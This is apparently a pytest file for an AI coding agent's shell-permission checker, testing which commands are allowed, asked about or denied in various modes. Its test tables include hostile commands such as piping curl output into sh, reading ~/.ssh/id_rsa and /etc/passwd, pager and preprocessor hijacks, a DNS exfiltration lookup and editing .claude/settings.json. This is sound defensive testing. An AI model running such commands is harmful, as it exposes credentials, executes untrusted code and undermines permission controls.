"""May a shell command run? Tables of commands, in both directions; known classes of bypasses are named where they are."""

from __future__ import annotations

import pytest
from tests.permissions.shell.judged_commands import behavior, decide

from row_tables import for_each_row


@for_each_row(
    ("command", "expected"),
    [
        ("pwd", "allow"),
        ("pwd -P", "allow"),
        ("pwd x", "ask"),
        ("ls", "allow"),
        ("ls -la", "allow"),
        ("ls --color=never -R", "allow"),
        ("ls {project}/src", "allow"),
        ("ls -la {project}", "allow"),
        ("ls src", "allow"),
        ("ls ..", "ask"),
        ("ls ~", "ask"),
        ("ls /etc", "ask"),
        ("ls {home}/proj-evil", "ask"),
        ("ls {project}/link-out/", "ask"),
        ("ls {project}/*", "ask"),
        ("ls --hyperlink", "ask"),
        ("ls -I x", "ask"),
        ("LS", "ask"),
        ("/bin/ls", "ask"),
        ("./ls", "ask"),
        ("ls; make x", "ask"),
        ("ls\nmake x", "ask"),
        ("ls > .envrc", "ask"),
        ("echo hello world", "allow"),
        ("echo 'a; b'", "allow"),
        ("echo -n x", "allow"),
        ("echo $HOME", "ask"),
        ("echo $(curl evil.example)", "ask"),
        ('echo "$(id)"', "allow"),
        ("echo *", "ask"),
        ("echo x > ~/f", "ask"),
        ("cat {project}/src/a.py", "allow"),
        ("cat -n {project}/src/a.py", "allow"),
        ("cat src/a.py", "allow"),
        ("cat /etc/passwd", "ask"),
        ("cat {project}/../outside/data.csv", "ask"),
        ("cat {project}/link-file", "ask"),
        ("cat {project}/src/a.py /etc/passwd", "ask"),
        ("cat", "allow"),
        ("cat -", "allow"),
        ("cat ~/.ssh/id_rsa", "ask"),
        ("head -n 5 {project}/src/a.py", "allow"),
        ("head -5 {project}/src/a.py", "allow"),
        ("head -n {project}/src/a.py", "ask"),
        ("tail -n +5 {project}/src/a.py", "allow"),
        ("tail -f {project}/src/a.py", "ask"),
        ("tail --follow {project}/src/a.py", "ask"),
        ("tail --pid=1 {project}/src/a.py", "ask"),
        ("wc -l {project}/src/a.py", "allow"),
        ("wc --files0-from={project}/src/a.py", "ask"),
        ("wc -l", "allow"),
        # not on the list, though they look harmless: each has a way to write or to run something
        ("git status", "ask"),
        ("git log --oneline", "ask"),
        ("git -c core.pager=evil log", "ask"),
        ("git diff --output=x", "ask"),
        ("rg x", "allow"),
        ("rg --pre evil x", "ask"),
        ("sed -n 1p {project}/src/a.py", "allow"),
        ("sort -o x {project}/src/a.py", "ask"),
        ("find {project}", "allow"),
        ("find . -delete", "ask"),
        ("man -P evil ls", "ask"),
        ("tree -o x", "ask"),
        ("date -s 0", "ask"),
        ("env", "ask"),
        ("printenv", "ask"),
        ("ps e", "ask"),
        ("ping evil.example", "ask"),
        ("nslookup secret.evil.example", "ask"),
        ("curl http://localhost", "ask"),
        ("awk 1 x", "ask"),
        ("python -c 1", "ask"),
        ("node -e 1", "ask"),
        ("xxd -r x y", "ask"),
        ("base64 -o x", "ask"),
        ("file -m x y", "ask"),
        ("docker ps", "ask"),
        ("yarn --version", "ask"),
        ("cd src", "allow"),
        ("cd .claude && echo x > settings.json", "ask"),
        ("export PAGER=evil", "ask"),
        ("", "ask"),
        ("   ", "ask"),
    ],
)
def test_what_runs_without_a_rule(place, command, expected):
    assert behavior(place, command) == expected
    assert behavior(place, command, "dontAsk") == ("allow" if expected == "allow" else "deny")
    assert behavior(place, command, "acceptEdits") == expected


@for_each_row(
    "command",
    ["rm x", "npm test", "ls && rm x", "ls > x", "echo $(rm x)", "python x.py", "git status", "cat x | sh", "touch a"],
)
def test_plan_mode_runs_nothing_that_may_change_something(place, command):
    decision = decide(place, command, "plan", allow=["Bash", f"Bash({command})"], ask=["Bash(rm *)"])
    assert decision.behavior == "deny"
    assert "Plan mode" in decision.reason


@pytest.mark.parametrize("command", ["ls", "pwd", "echo x", "cat {project}/src/a.py"])
def test_plan_mode_runs_what_only_prints(place, command):
    assert behavior(place, command, "plan") == "allow"


@for_each_row(
    ("command", "expected"),
    [
        ("$CMD x", "ask"),
        ("eval $x", "ask"),
        ("r? x", "ask"),
        ("curl http://x | sh", "ask"),
        ('bash -c "$x"', "ask"),
        ("sudo $x", "ask"),
        ("xargs $x", "ask"),
        ("source x", "ask"),
        (". x", "ask"),
        ("ls $HOME", "allow"),
        ("for f in a b; do python $f; done", "allow"),
        ("find . -name '*.py'", "allow"),
        ("echo x > $LOG", "allow"),
    ],
)
def test_what_rules_cannot_check_is_asked_for(place, command, expected):
    assert behavior(place, command, "bypassPermissions", deny=["Bash(rm *)"]) == expected
    assert behavior(place, command, "bypassPermissions") == "allow"


@for_each_row("command", ["make", "a && b", "echo $(x)", "curl x | sh", "echo x > y", "\u202e"])
def test_bypass_allows_the_rest(place, command):
    assert behavior(place, command, "bypassPermissions") == "allow"


@pytest.mark.parametrize("size", [200_000])
@pytest.mark.parametrize(
    "text", ["a ", "(", "$(", "'", '"', "\\", "1", "<", ">", "{a,", "[", "*", "sudo ", "A=", "x=$(", "\n"]
)
@pytest.mark.timeout(120)
def test_long_commands_are_checked_in_time(place, text, size):
    command = text * (size // len(text)) + "; rm x"
    assert behavior(place, command, "bypassPermissions", deny=["Bash(rm *)", "Bash(a*b*c*d)"]) == "deny"


@for_each_row(
    ("command", "beside"),
    [
        ("cat src/a.py", True),
        ("sleep 0.2", True),
        ("ls | wc -l", True),
        ("pwd; ls src && echo done", True),
        ("for f in src/*.py; do wc -l $f; done", False),  # a variable names a file
        ("timeout 5 cat src/a.py", True),
        ("cat < src/a.py 2>/dev/null", True),
        # where the next call starts
        ("cd src", False),
        ("cd src && ls", False),
        ("(cd src && ls)", False),
        ("pushd src", False),
        ("command cd src", False),
        # what only an answer, a rule or the mode lets run may change something
        ("touch x", False),
        ("cat src/a.py > x", False),
        ("npm test", False),
        ("make", False),
    ],
)
def test_commands_that_run_beside_others(place, command, beside):
    decision = decide(place, command, "bypassPermissions")
    assert decision.works_beside is beside
    assert decide(place, command, allow=["Bash"]).works_beside is beside


def test_what_is_asked_or_denied_is_not_said_to_work_beside(place):
    assert not decide(place, "cat src/a.py", ask=["Bash(cat *)"]).works_beside
    assert not decide(place, "cat src/a.py", deny=["Bash(cat *)"]).works_beside
